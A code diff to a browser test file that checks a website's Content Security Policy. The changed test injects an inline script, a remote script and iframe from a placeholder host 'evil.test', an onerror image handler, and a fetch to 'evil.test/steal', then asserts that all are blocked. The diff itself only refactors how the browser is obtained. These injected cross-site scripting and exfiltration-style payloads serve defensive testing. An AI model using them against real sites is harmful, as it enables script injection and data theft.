@@ -2,7 +2,7 @@ import { createHash } from "node:crypto";
 import { readFileSync } from "node:fs";
 import { expect, test } from "vitest";
 import { BRAND } from "../../../app/brand.ts";
-import { connectBrowser, freshPage, open } from "../../host/page.ts";
+import { browser, freshPage, open } from "../../host/page.ts";
 import { SITE } from "../../host/site.ts";
 import { expectRateLimit } from "../../rate-limit.ts";
 import { inDeep } from "../../volume.ts";
@@ -84,37 +84,30 @@ test.each(["/", "/en/products", "/ru/contact", "/siparis-listesi", "/en/company/
 );
 
 test("a browser runs nothing that was put into a page", async () => {
-  const browser = await connectBrowser();
-  try {
-    const { page } = await freshPage(browser);
-    await open(page, "/en/products");
-    const ran = await page.evaluate(async () => {
-      const blocked: string[] = [];
-      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
-        blocked.push(effectiveDirective),
-      );
-      const script = document.createElement("script");
-      script.textContent = "window.wasRun = 'inline script'";
-      document.body.append(script);
-      const remote = document.createElement("script");
-      remote.src = "https://evil.test/x.js";
-      document.body.append(remote);
-      document.body.insertAdjacentHTML("beforeend", `<img src="x" onerror="window.wasRun = 'handler'">`);
-      const frame = document.createElement("iframe");
-      frame.src = "https://evil.test/";
-      document.body.append(frame);
-      await fetch("https://evil.test/steal").catch(() => undefined);
-      for (const kinds = 4; new Set(blocked).size < kinds; )
-        await new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, { once: true }));
-      return { ran: (window as { wasRun?: string }).wasRun, blocked: [...new Set(blocked)].toSorted() };
-    });
-    expect(ran).toEqual({
-      ran: undefined,
-      blocked: ["connect-src", "frame-src", "script-src-attr", "script-src-elem"],
-    });
-  } finally {
-    await browser.close();
-  }
+  const { page } = await freshPage(browser);
+  await open(page, "/en/products");
+  const ran = await page.evaluate(async () => {
+    const blocked: string[] = [];
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => blocked.push(effectiveDirective));
+    const script = document.createElement("script");
+    script.textContent = "window.wasRun = 'inline script'";
+    document.body.append(script);
+    const remote = document.createElement("script");
+    remote.src = "https://evil.test/x.js";
+    document.body.append(remote);
+    document.body.insertAdjacentHTML("beforeend", `<img src="x" onerror="window.wasRun = 'handler'">`);
+    const frame = document.createElement("iframe");
+    frame.src = "https://evil.test/";
+    document.body.append(frame);
+    await fetch("https://evil.test/steal").catch(() => undefined);
+    for (const kinds = 4; new Set(blocked).size < kinds; )
+      await new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, { once: true }));
+    return { ran: (window as { wasRun?: string }).wasRun, blocked: [...new Set(blocked)].toSorted() };
+  });
+  expect(ran).toEqual({
+    ran: undefined,
+    blocked: ["connect-src", "frame-src", "script-src-attr", "script-src-elem"],
+  });
 });
 
 test.each([
